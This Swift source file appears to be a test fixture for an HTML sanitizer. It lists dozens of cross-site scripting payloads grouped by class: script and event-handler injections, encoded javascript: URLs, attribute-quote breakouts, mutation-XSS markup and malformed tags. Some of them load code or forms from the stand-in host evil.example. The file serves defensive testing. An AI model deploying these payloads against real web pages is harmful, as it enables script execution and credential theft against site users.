// SPDX-License-Identifier: Apache-2.0

/// Attacks by class; one string each.
enum AttackCases {
    static let all = active + addresses + attributes + mutations + broken

    /// Elements and handlers that act.
    static let active = [
        "<script>alert(1)</script>after", "<ScRiPt src=//evil.example/x.js></sCrIpT>after",
        "<script\n>alert(1)</script\n>after", "<script/x>alert(1)</script/>after",
        "<style>@import url(//evil.example/x.css);</style>after",
        "<style><img src=x onerror=alert(1)></style>after",
        "<iframe src=javascript:alert(1)></iframe>after",
        "<iframe srcdoc='<script>alert(1)</script>'>after</iframe>",
        "<object data=data:text/html,x></object>after", "<embed src=x.swf>after",
        "<applet code=x></applet>after",
        "<form action=//evil.example><input name=p type=password><button>after</button></form>",
        "<meta http-equiv=refresh content=0;url=//evil.example>after",
        "<link rel=stylesheet href=//evil>after",
        "<base href=//evil.example/>after", "<frameset><frame src=//evil.example></frameset>after",
        "<img src=x onerror=alert(1)>after", "<p ONCLICK = 'alert(1)'>after</p>",
        "<svg onload=alert(1)>after</svg>", "<body onload=alert(1)>after</body>",
        "<b/onmouseover=alert(1)>after</b>",
        "<details open ontoggle=alert(1)>after</details>", "<video><source onerror=alert(1)></video>after",
        "<math><mi xlink:href=javascript:alert(1)>after</mi></math>",
        "<portal src=//evil.example></portal>after",
        "<audio src=x onerror=alert(1)></audio>after", "<p title=\"x\"onclick=\"alert(1)\">after</p>",
        "<a href=\"javascript:alert(1)\">after</a>", "<img src=\"data:text/html,x\">after",
        "<canvas>after</canvas>",
        "<select><option>after</option></select>", "<textarea>after</textarea>",
    ]

    /// Ways to write a forbidden scheme.
    static let addresses = [
        "<a href=' javascript:alert(1)'>after</a>", "<a href='java\tscript:alert(1)'>after</a>",
        "<a href='java\nscript:alert(1)'>after</a>", "<a href='jav&#x0A;ascript:alert(1)'>after</a>",
        "<a href='&#106;avascript:alert(1)'>after</a>", "<a href='javascript&colon;alert(1)'>after</a>",
        "<a href='&Tab;javascript:alert(1)'>after</a>", "<a href='\u{1}javascript:alert(1)'>after</a>",
        "<a href='java\u{0}script:alert(1)'>after</a>", "<a href='JaVaScRiPt:alert(1)'>after</a>",
        "<a href='\u{FEFF}javascript:alert(1)'>after</a>", "<a href='\u{202E}javascript:alert(1)'>after</a>",
        "<a href='vbscript:x'>after</a>", "<a href='data:text/html;base64,PHA+'>after</a>",
        "<a href='file:///etc/passwd'>after</a>", "<a href='about:blank'>after</a>",
        "<a href='blob:https://x/y'>after</a>", "<a href='feed:javascript:alert(1)'>after</a>",
        "<a href='view-source:javascript:alert(1)'>after</a>", "<img src='javascript:alert(1)'>after",
        "<img srcset='javascript:alert(1) 1x, data:image/svg+xml,x 2x'>after",
        "<img src='mailto:x@y'>after", "<video poster='javascript:x' src='data:x'></video>after",
        "<q cite='javascript:alert(1)'>after</q>", "<a href='http:javascript:alert(1)'>after</a>",
        "<a href='https://ok.example/\" onmouseover=alert(1) x=\"'>after</a>",
        "<a href=`javascript:alert(1)`>after</a>", "<img src=x:alert(1) onerror=eval(src)>after",
        "<a href='javascript:alert(1)' href='https://ok.example/'>after</a>",
        "<a href='//evil.example\\@ok.example/'>after</a>",
        "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>after</a>",
    ]

    /// Values that try to leave their quotes.
    static let attributes = [
        "<img alt='\" onerror=alert(1) x=\"' src=x>after", "<p title='<script>alert(1)</script>'>after</p>",
        "<p title=\"&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;\">after</p>",
        "<p title=a'b\"c`d>after</p>",
        "<p lang='\"onclick=alert(1)'>after</p>", "<p dir='rtl\" onclick=\"alert(1)'>after</p>",
        "<td colspan='2\" onclick=alert(1)'>after</td>",
        "<p style='background:url(javascript:alert(1))'>after</p>",
        "<p style='width:expression(alert(1))'>after</p>", "<p style=-moz-binding:url(//evil)>after</p>",
        "<img src=x title=`onerror=alert(1)` alt=``>after",
        "<p title=x title='\" onclick=alert(1)'>after</p>",
        "<img/src=x/onerror=alert(1)>after", "<p \u{0}onclick=alert(1)>after</p>",
        "<p\u{C}onclick=alert(1)>after</p>",
        "<p\u{B}onclick=alert(1)>after</p>", "<p =onclick=alert(1)>after</p>",
        "<p a=b=onclick=alert(1)>after</p>",
        "<time datetime='2026-11-23' onclick='x'>after</time>",
    ]

    /// Markup that changes its meaning when it is parsed a second time.
    static let mutations = [
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">after</p></noscript>",
        "<svg></p><style><a title=\"</style><img src=x onerror=alert(1)>\">after</a></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--><img src=x onerror=alert(1)>\">after",
        "<math><annotation-xml encoding=text/html><style><img src=x onerror=alert(1)></style>after",
        "<template><style></template><img src=x onerror=alert(1)></style>after</template>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">after</p></xmp>",
        "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">after</p></textarea>",
        "<title><p title=\"</title><img src=x onerror=alert(1)>\">after</p></title>",
        "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">after</p></noembed>",
        "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">after</p></iframe>",
        "<plaintext>after<img src=x onerror=alert(1)>",
        "<listing>&lt;img src=x onerror=alert(1)&gt;after</listing>",
        "<svg><title><script>alert(1)</script></title>after</svg>",
        "<svg><![CDATA[<img src=x onerror=alert(1)>]]>after</svg>",
        "<![CDATA[<script>alert(1)</script>]]>after",
        "<!--><img src=x onerror=alert(1)>-->after", "<!---><img src=x onerror=alert(1)>-->after",
        "<!-- x --!><img src=x onerror=alert(1)>-->after",
        "<!--[if IE]><script>alert(1)</script><![endif]-->after",
        "<!<!--><script>alert(1)</script>-->after", "<?php echo '<script>'; ?>after", "<%= x %>after",
        "</p><script>alert(1)</script>after",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=x>",
        "<p>&lt;script&gt;alert(1)&lt;/script&gt;after</p>", "&amp;lt;script&amp;gt;after",
        "<a><svg><a href=javascript:alert(1)>after</a></svg></a>",
        "<table><style><p title='</style><b>'>after",
        "<select><style></select><img src=x onerror=alert(1)></style>after",
        "<svg><desc><noscript><p title='</noscript><style onload=alert(1)>'>after</p>",
    ]

    /// Markup that no grammar covers.
    static let broken = [
        "<scr<script>ipt>alert(1)</script>after", "<<script>alert(1)//<</script>after",
        "<scr\u{0}ipt>after</scr\u{0}ipt>",
        "<img src=\"x\" onerror=\"alert(1)//\">after", "<img \"\"\"><script>alert(1)</script>\">after",
        "<img src=x onerror\n=\nalert(1)>after", "<a href=\"https://ok.example/>x</a><b title='\">after</b>",
        "<p title=\"مرحبا>after</p>", "<b title='x>after</b>", "<IMG SRC=x:y\u{2028}onerror=alert(1)>after",
        "<a href=x\u{A0}onclick=alert(1)>after</a>", "\u{FEFF}<script>alert(1)</script>after",
        "< script>after",
        "<\u{0}script>after", "<\u{200B}script>after", "<ｓcript>after", "<script >alert(1)</script foo>after",
        "<script>if (a<b && c>d) '</scr' + 'ipt>'</script>after", "<!doctype html><html><head></head>after",
        "<p>after</p></div></td></tr></table></body>", "<a href=https://x.example/?a=1&b=2&copy=3>after</a>",
        "<p><b><i>after</p></i></b></p>", "after<img src=x onerror=alert(1)", "after<a href=\"javascript:",
        "after <! not closed", "after &#xD800; &#x110000; &#0; &#-1; &#x; &; &nosuch; &notit;",
    ]
}
